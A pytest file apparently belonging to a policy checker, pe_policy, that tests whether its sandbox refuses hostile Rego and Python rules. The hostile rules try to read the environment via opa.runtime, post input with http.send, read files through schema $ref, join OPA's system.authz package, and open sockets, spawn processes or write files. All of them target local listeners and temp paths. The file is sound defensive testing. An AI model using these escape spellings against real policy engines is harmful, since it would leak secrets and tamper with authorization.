"""Policies are sandboxed: hostile Rego cannot read the environment, reach the network or read
files on any backend `make_backend` knows; hostile Python rules are stopped by the guard.

Each test plants a canary (an environment variable, a listening socket, a file outside the
repository) and checks that no output and no connection ever shows it was reached.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from pe_policy.config import resolve_config
from pe_policy.engine.backends import ENGINES
from pe_policy.pipeline import CheckResult, check
from pe_policy.runner import Limits
from tests.reference_tools import opa_server

CANARY = "pe-sandbox-canary-7f3e"
WORKFLOW = """\
name: CI
on: [push]
permissions:
  contents: read
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - run: make test
"""


@pytest.fixture(params=ENGINES)
def engine(request: pytest.FixtureRequest,
           monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[str, dict[str, Any]]]:
    """Every backend: regorus, and a real `opa run --server` started with the canary in its
    environment (a real OPA's `opa.runtime()` reports the server's own environment)."""
    name = request.param
    if name != "opa":
        yield name, {}
        return
    monkeypatch.setenv("PE_SANDBOX_CANARY", CANARY)
    with opa_server() as url:
        yield name, {"opa_url": url}


def policy(rule_id: str, body: str) -> str:
    return f"""# METADATA
# title: hostile {rule_id}
# custom:
#   id: {rule_id}
#   severity: high
#   kinds: [workflow]
package hostile.{rule_id.lower().replace("-", "_")}

import rego.v1

{body}
"""


def run(repo: Path, policies: dict[str, str], engine: tuple[str, dict[str, Any]],
        monkeypatch: pytest.MonkeyPatch) -> tuple[CheckResult, str]:
    (repo / ".github/workflows").mkdir(parents=True, exist_ok=True)
    (repo / ".github/workflows/ci.yml").write_text(WORKFLOW, encoding="utf-8")
    (repo / "policies").mkdir(exist_ok=True)
    for name, text in policies.items():
        (repo / "policies" / name).write_text(text, encoding="utf-8")
    (repo / ".pe-policy.yaml").write_text("policies: [policies]\n", encoding="utf-8")
    monkeypatch.setenv("PE_SANDBOX_CANARY", CANARY)
    name, options = engine
    root = repo.resolve()
    result = check([root], root, config=resolve_config(root), engine=name, engine_options=options,
                   limits=Limits(timeout=20, memory_mb=1024))
    everything = json.dumps([f.to_dict() for f in result.findings]) + json.dumps(result.problems)
    return result, everything


def refused(result: CheckResult, file: str) -> str:
    return next(m for p, m in result.problems if p.endswith(file))


def refusal_line(text: str, marker: str = "# refused here") -> int:
    return next(n for n, line in enumerate(text.splitlines(), start=1) if marker in line)


def test_policies_cannot_read_the_environment(tmp_repo: Path, engine: tuple[str, dict[str, Any]],
                                              monkeypatch: pytest.MonkeyPatch) -> None:
    """`opa.runtime()` is refused: on an OPA server it holds the server's whole environment."""
    hostile = policy("HOSTILE-001", """\
deny contains sprintf("%s=%v", [name, value]) if {
	some name, value in opa.runtime().env # refused here
}

deny contains sprintf("runtime: %v", [rt]) if {
	rt := opa.runtime()
}

deny contains sprintf("bracket: %v", [rt]) if {
	rt := opa["runtime"]()
}
""")
    innocent = policy("HOSTILE-003", 'deny contains "still evaluated" if { input.jobs.test }\n')
    result, everything = run(tmp_repo, {"env.rego": hostile, "fine.rego": innocent}, engine,
                             monkeypatch)
    assert CANARY not in everything
    assert "PE_SANDBOX_CANARY" not in everything
    message = refused(result, "env.rego")
    assert f"env.rego:{refusal_line(hostile)}:" in message and "calls opa.runtime" in message
    assert not [f for f in result.findings if f.rule_id == "HOSTILE-001"]
    assert [f.message for f in result.findings if f.rule_id == "HOSTILE-003"] == ["still evaluated"]


# Every way a module can make an engine call a built-in: each is a module of its own, refused at
# the line marked, whatever the built-in.  CALL is the call (`http.send({...})`), BRACKET the
# same in brackets (`http["send"]({...})`), NAME the name, NS its first part, ARGS the arguments.
SPELLINGS: dict[str, str] = {
    "direct": """\
deny contains sprintf("%v", [r]) if {
	r := CALL # refused here
}
""",
    "bracket": """\
deny contains sprintf("%v", [r]) if {
	r := BRACKET # refused here
}
""",
    # an import that takes the built-in's first name (both engines then call into `data`)...
    "alias": """\
import data.hostile.lib as NS

deny contains sprintf("%v", [r]) if {
	r := CALL # refused here
}
""",
    # ... or a rule that does (OPA calls the rule, regorus the built-in): a denied name is
    # refused however it resolves
    "shadowing-rule": """\
NS := {"name": "a rule, not the built-in"}

deny contains sprintf("%v", [r]) if {
	r := CALL # refused here
}
""",
    "with-value": """\
mock(_) := "mocked"

deny contains sprintf("%v", [r]) if {
	r := mock(1) with mock as NAME # refused here
}
""",
    "with-value-for-a-builtin": """\
deny contains sprintf("%v", [r]) if {
	r := count([1]) with count as NAME # refused here
}
""",
    "function": """\
f(x) := CALL if x # refused here

deny contains sprintf("%v", [r]) if {
	r := f(true)
}
""",
    "comprehension": """\
deny contains sprintf("%v", [r]) if {
	r := [v | some i in [1]; v := CALL] # refused here
}
""",
    "else": """\
value := 1 if {
	input.nothing
} else := CALL # refused here

deny contains sprintf("%v", [value]) if value
""",
    "every": """\
deny contains "every" if {
	every x in [1] {
		x == 1
		CALL # refused here
	}
}
""",
    "not": """\
deny contains "negated" if not CALL # refused here
""",
    "head": """\
deny contains sprintf("%v", [CALL]) if true # refused here
""",
    "reference": """\
g := NAME # refused here

deny contains sprintf("%v", [g]) if g
""",
    "object-key": """\
deny contains sprintf("%v", [r]) if {
	r := {"k": [1, {CALL: 2}]} # refused here
}
""",
}

DENIED_CALLS = {  # built-in -> its arguments (PORT: the listener's)
    "http.send": '{"method": "get", "url": "http://127.0.0.1:PORT/SPELLING"}',
    "opa.runtime": "",
    "net.lookup_ip_addr": '"localhost"',
    "json.match_schema": '{"x": 1}, {"$ref": "http://127.0.0.1:PORT/SPELLING.json"}',
    "time.now_ns": "",
}


@pytest.mark.parametrize("builtin", list(DENIED_CALLS))
def test_every_spelling_of_a_denied_builtin_is_refused(
        tmp_repo: Path, engine: tuple[str, dict[str, Any]], monkeypatch: pytest.MonkeyPatch,
        listener: tuple[int, list[bytes]], builtin: str) -> None:
    port, received = listener
    namespace, rest = builtin.split(".", 1)
    policies: dict[str, str] = {}
    for n, (spelling, body) in enumerate(SPELLINGS.items(), start=20):
        args = DENIED_CALLS[builtin].replace("PORT", str(port)).replace("SPELLING", spelling)
        text = (body.replace("BRACKET", f'{namespace}["{rest}"]({args})')
                .replace("CALL", f"{builtin}({args})").replace("NAME", builtin)
                .replace("NS", namespace))
        policies[f"{spelling}.rego"] = policy(f"HOSTILE-{n:03d}", text)
    policies["fine.rego"] = policy("HOSTILE-003",
                                   'deny contains "still evaluated" if { input.jobs.test }\n')
    result, everything = run(tmp_repo, policies, engine, monkeypatch)
    assert received == []
    assert CANARY not in everything and "PE_SANDBOX_CANARY" not in everything
    for spelling in SPELLINGS:
        name = f"{spelling}.rego"
        message = refused(result, name)
        assert f"{name}:{refusal_line(policies[name])}:" in message, message
        verb = "refers to" if spelling == "reference" else "calls"
        assert f"{verb} {builtin}" in message, message
    assert [f.rule_id for f in result.findings if f.rule_id.startswith("HOSTILE")] == ["HOSTILE-003"]


@pytest.mark.parametrize(("builtin", "call"), [
    ("http.send", 'http.send({"method": "get", "url": "http://127.0.0.1:PORT/leak"})'),
    ("http.send", 'http.send({"method": "post", "url": "http://127.0.0.1:PORT/", "body": input})'),
    ("http.send", 'http["send"]({"method": "get", "url": "http://127.0.0.1:PORT/bracket"})'),
    ("http.send", 'mock({"method": "get", "url": "http://127.0.0.1:PORT/with"}) with mock as http.send'),
    ("net.lookup_ip_addr", 'net.lookup_ip_addr("localhost")'),
    ("json.match_schema", 'json.match_schema({"x": 1}, {"$ref": "http://127.0.0.1:PORT/s.json"})'),
    ("json.verify_schema", 'json.verify_schema({"$ref": "http://127.0.0.1:PORT/s.json"})'),
], ids=["get", "post", "bracket", "with-value", "dns", "match-schema-ref", "verify-schema-ref"])
def test_policies_cannot_reach_the_network(
        tmp_repo: Path, engine: tuple[str, dict[str, Any]], monkeypatch: pytest.MonkeyPatch,
        listener: tuple[int, list[bytes]], builtin: str, call: str) -> None:
    port, received = listener
    hostile = policy("HOSTILE-002", 'mock(_) := "mocked"\n\n'
                     f'deny contains sprintf("%v", [r]) if {{\n\tr := {call}\n}}\n'
                     .replace("PORT", str(port)))
    innocent = policy("HOSTILE-003", 'deny contains "still evaluated" if { input.jobs.test }\n')
    result, _ = run(tmp_repo, {"net.rego": hostile, "fine.rego": innocent}, engine, monkeypatch)
    assert received == []
    message = refused(result, "net.rego")
    line = next(n for n, text in enumerate(hostile.splitlines(), start=1) if "\tr := " in text)
    assert f"net.rego:{line}:" in message
    assert f"calls {builtin}" in message
    assert not [f for f in result.findings if f.rule_id == "HOSTILE-002"]
    assert [f.message for f in result.findings if f.rule_id == "HOSTILE-003"] == ["still evaluated"]


def test_a_module_regorus_cannot_read_reaches_no_engine(
        tmp_repo: Path, engine: tuple[str, dict[str, Any]], monkeypatch: pytest.MonkeyPatch,
        listener: tuple[int, list[bytes]]) -> None:
    """OPA reads a call through a raw-string key (`net[`lookup_ip_addr`](...)`), regorus does
    not: modules are read with regorus's parser, so such a module is reported unreadable and
    never uploaded to OPA either."""
    port, received = listener
    hostile = policy("HOSTILE-002", f"""\
deny contains sprintf("%v", [r]) if {{
	r := http[`send`]({{"method": "get", "url": "http://127.0.0.1:{port}/raw"}}) # refused here
}}
""")
    result, _ = run(tmp_repo, {"raw.rego": hostile}, engine, monkeypatch)
    assert f"raw.rego:{refusal_line(hostile)}:" in refused(result, "raw.rego")
    assert received == []
    if "opa_url" in engine[1]:
        import urllib.request

        with urllib.request.urlopen(f"{engine[1]['opa_url']}/v1/policies", timeout=5) as answer:
            uploaded = json.load(answer)["result"]
        assert not [p for p in uploaded if "raw.rego" in p["id"]]


def test_a_builtin_pe_policy_does_not_know_is_refused(
        tmp_repo: Path, engine: tuple[str, dict[str, Any]], monkeypatch: pytest.MonkeyPatch,
        listener: tuple[int, list[bytes]]) -> None:
    """Calls are allowed, not denied, by name: one to a name that is no allowed built-in and not
    the module's own (what a newer OPA might add) is refused, not run."""
    port, received = listener
    hostile = policy("HOSTILE-002", f"""\
deny contains sprintf("%v", [r]) if {{
	r := net.fetch("http://127.0.0.1:{port}/new") # refused here
}}
""")
    result, _ = run(tmp_repo, {"new.rego": hostile}, engine, monkeypatch)
    message = refused(result, "new.rego")
    assert f"new.rego:{refusal_line(hostile)}:" in message
    assert "calls net.fetch, which is neither a built-in function policies may use" in message
    assert received == []


def test_what_a_module_may_call(tmp_repo: Path, engine: tuple[str, dict[str, Any]],
                                monkeypatch: pytest.MonkeyPatch,
                                listener: tuple[int, list[bytes]]) -> None:
    """Its own functions (in any module of its package), imported ones, paths from `data` (a
    package named `http` is not the built-in), and allowed built-ins."""
    port, received = listener
    url = f"http://127.0.0.1:{port}/mine"
    lib = """\
package http

import rego.v1

send(request) := sprintf("mine: %s", [request.url])
"""
    helper = """\
package hostile.shared

import rego.v1

helper(x) := upper(x)
"""
    mine = policy("HOSTILE-030", f"""\
import data.http as web

deny contains data.http.send({{"url": "{url}/data"}})

deny contains web.send({{"url": "{url}/import"}})

deny contains helper("from a sibling module")

deny contains json.marshal(object.get({{"a": [1]}}, "a", [])) if true
""").replace("package hostile.hostile_030", "package hostile.shared")
    result, everything = run(tmp_repo, {"lib.rego": lib, "helper.rego": helper, "mine.rego": mine},
                             engine, monkeypatch)
    assert result.problems == []
    assert sorted(f.message for f in result.findings if f.rule_id == "HOSTILE-030") == sorted([
        f"mine: {url}/data", f"mine: {url}/import", "FROM A SIBLING MODULE", "[1]"])
    assert received == []
    assert CANARY not in everything


def test_mocking_http_send_in_a_test_is_not_a_call() -> None:
    from pe_policy.engine.rego import parse_module
    from pe_policy.engine.sandbox import refusal

    text = policy("HOSTILE-004", 'deny contains "x" if { input.x == "# http.send(" }\n'
                  "test_mock if { deny with http.send as {} }\n")
    assert refusal(parse_module("p.rego", text), ()) is None
    called = text.replace("with http.send as {}", "with http.send as opa.runtime")
    error = refusal(parse_module("p.rego", called), ())
    assert error is not None and "calls opa.runtime" in error.message


def test_policies_cannot_read_files(tmp_repo: Path, tmp_path_factory: pytest.TempPathFactory,
                                    engine: tuple[str, dict[str, Any]],
                                    monkeypatch: pytest.MonkeyPatch) -> None:
    """A JSON Schema `$ref` to a file is read by a real OPA (its `const` would come back in the
    error for {"x": 1}): the module is refused; nothing else reads files (`yaml.unmarshal` of a
    path is a string)."""
    outside = tmp_path_factory.mktemp("outside") / "schema.json"
    outside.write_text(json.dumps({"type": "object", "title": CANARY,
                                   "properties": {"x": {"const": CANARY}}}), encoding="utf-8")
    schema = policy("HOSTILE-005", f"""\
deny contains sprintf("file schema: %v", [r]) if {{
	r := json.match_schema({{"x": 1}}, {{"$ref": "{outside.as_uri()}"}})
}}
""")
    strings = policy("HOSTILE-006", f"""\
deny contains sprintf("yaml: %v", [r]) if {{
	r := yaml.unmarshal("{outside}")
}}
""")
    result, everything = run(tmp_repo, {"schema.rego": schema, "yaml.rego": strings}, engine,
                             monkeypatch)
    assert CANARY not in everything
    assert "calls json.match_schema" in refused(result, "schema.rego")
    assert [f.message for f in result.findings if f.rule_id == "HOSTILE-006"] == [
        f"yaml: {outside}"]


def test_policies_cannot_join_the_system_package(
        tmp_repo: Path, engine: tuple[str, dict[str, Any]], monkeypatch: pytest.MonkeyPatch) -> None:
    """On a shared OPA server, a module in `package system.authz` would add its rules to the
    server's own authorization policy: refused on every backend."""
    hostile = policy("HOSTILE-007", "allow if true\n").replace(
        "package hostile.hostile_007", "package system.authz")
    result, _ = run(tmp_repo, {"authz.rego": hostile}, engine, monkeypatch)
    line = hostile.splitlines().index("package system.authz") + 1
    message = refused(result, "authz.rego")
    assert f"authz.rego:{line}:" in message and "package system.authz" in message
    if "opa_url" in engine[1]:
        import urllib.request

        with urllib.request.urlopen(f"{engine[1]['opa_url']}/v1/policies", timeout=5) as answer:
            uploaded = json.load(answer)["result"]
        assert not [p for p in uploaded if "package system" in p["raw"]]


def test_verify_runs_policies_sandboxed(tmp_path: Path, engine: tuple[str, dict[str, Any]],
                                        listener: tuple[int, list[bytes]]) -> None:
    """`pe-policy verify` is sandboxed too: a policy that calls http.send is refused before any
    engine runs it; a test that mocks http.send still runs."""
    from pe_policy.engine.rego import PolicyError
    from pe_policy.engine.verify import run_tests

    port, received = listener
    (tmp_path / "p").mkdir()
    (tmp_path / "p" / "p.rego").write_text(
        "package p\n\nimport rego.v1\n\nok if http.send({\"method\": \"get\", \"url\": "
        f'"http://127.0.0.1:{port}/"}}).status_code == 200\n', encoding="utf-8")
    (tmp_path / "p" / "p_test.rego").write_text(
        "package p_test\n\nimport data.p\nimport rego.v1\n\n"
        "test_ok if p.ok with input as {\"x\": 1} with http.send as {}\n", encoding="utf-8")
    name, options = engine
    with pytest.raises(PolicyError, match=r"calls http\.send") as info:
        run_tests([tmp_path / "p"], engine=name, engine_options=options)
    assert info.value.path.endswith("p.rego") and info.value.line == 5
    assert received == []
    (tmp_path / "p" / "p.rego").write_text("package p\n\nimport rego.v1\n\nok if input.x == 1\n",
                                           encoding="utf-8")
    report = run_tests([tmp_path / "p"], engine=name, engine_options=options)
    assert [(case.name, case.status) for case in report.cases] == [("data.p_test.test_ok", "pass")]
    assert received == []



def test_verify_has_checks_deadline_and_memory_limit(tmp_path: Path) -> None:
    """`verify` runs the tests in a worker forked by the runner, with `check`'s limits: a test
    still running at the deadline, or that exhausts the memory, is an error naming it, and the
    other tests still run (in a fresh worker)."""
    from pe_policy.engine.verify import render_report, run_tests

    (tmp_path / "p").mkdir()
    (tmp_path / "p" / "p_test.rego").write_text("""\
package p_test

import rego.v1

test_before if true

test_forever if count({1 | some i in numbers.range(1, 100000); some j in numbers.range(1, 100000)}) == 1

test_memory if count(numbers.range(1, 1000000000)) > 0

test_after if true
""", encoding="utf-8")
    report = run_tests([tmp_path / "p"], limits=Limits(timeout=3, memory_mb=300))
    outcome = {case.name.rsplit(".", 1)[1]: (case.status, case.line, case.message)
               for case in report.cases}
    assert outcome["test_before"] == ("pass", 5, "")
    assert outcome["test_after"] == ("pass", 11, "")
    assert outcome["test_forever"][:2] == ("error", 7)
    assert "did not finish within the evaluation deadline of 3 s" in outcome["test_forever"][2]
    assert outcome["test_memory"][:2] == ("error", 9)
    assert "ran out of memory" in outcome["test_memory"][2]
    shown = render_report(report)
    assert "ERROR " in shown and shown.endswith("2 passed, 0 failed, 2 errors\n")


# --------------------------------------------------------------------------- Python rules

GUARDED = '''\
import os
import socket
import subprocess

from pe_policy.engine.python_rules import rule


@rule("HOSTILE-010", severity="high", kinds=["workflow"], title="Network")
def network(doc, ctx):
    socket.create_connection(("127.0.0.1", PORT), timeout=2)
    yield "connected"


@rule("HOSTILE-011", severity="high", kinds=["workflow"], title="Process")
def process(doc, ctx):
    subprocess.run(["true"], check=False)
    yield "ran a process"


@rule("HOSTILE-012", severity="high", kinds=["workflow"], title="Outside read")
def outside(doc, ctx):
    with open(OUTSIDE, encoding="utf-8") as fh:
        yield fh.read()


@rule("HOSTILE-013", severity="high", kinds=["workflow"], title="Write")
def write(doc, ctx):
    with open(os.path.join(str(ctx.repo_root), "planted.txt"), "w", encoding="utf-8") as fh:
        fh.write("x")
    yield "wrote a file"


@rule("HOSTILE-014", severity="low", kinds=["workflow"], title="Allowed")
def allowed(doc, ctx):
    import json  # imports still work
    with open(os.path.join(str(ctx.repo_root), ".github/workflows/ci.yml"), encoding="utf-8") as fh:
        yield f"read {len(fh.read())} characters of the repository, {json.dumps(ctx.file_exists('x'))}"
'''


@pytest.mark.parametrize("isolated", [True, False], ids=["worker", "in-process"])
def test_python_rules_are_guarded(tmp_repo: Path, tmp_path_factory: pytest.TempPathFactory,
                                  listener: tuple[int, list[bytes]], isolated: bool) -> None:
    port, received = listener
    outside = tmp_path_factory.mktemp("outside") / "secret.txt"
    outside.write_text(CANARY, encoding="utf-8")
    (tmp_repo / ".github/workflows").mkdir(parents=True)
    (tmp_repo / ".github/workflows/ci.yml").write_text(WORKFLOW, encoding="utf-8")
    (tmp_repo / "policies").mkdir()
    # a repository's rules see no environment: the port and the path are written in
    (tmp_repo / "policies/guarded.py").write_text(
        f"PORT = {port}\nOUTSIDE = {str(outside)!r}\n" + GUARDED, encoding="utf-8")
    (tmp_repo / ".pe-policy.yaml").write_text("policies: [policies]\npython_rules: true\n",
                                              encoding="utf-8")
    root = tmp_repo.resolve()
    limits = Limits(timeout=20, memory_mb=1024) if isolated else Limits(None, None)
    result = check([root], root, config=resolve_config(root), limits=limits)
    errors = {f.properties["failed_rule"]: f.message for f in result.findings
              if f.rule_id == "PE-RULE-ERROR"}
    assert ("may not look up host names" in errors["HOSTILE-010"]
            or "may not open network connections" in errors["HOSTILE-010"])
    assert "may not start processes" in errors["HOSTILE-011"]
    assert "may not read files outside the repository" in errors["HOSTILE-012"]
    assert "may not write files" in errors["HOSTILE-013"]
    assert [f.message for f in result.findings if f.rule_id == "HOSTILE-014"] == [
        f"read {len(WORKFLOW)} characters of the repository, false"]
    assert received == [] and not (tmp_repo / "planted.txt").exists()
    assert CANARY not in json.dumps([f.to_dict() for f in result.findings])
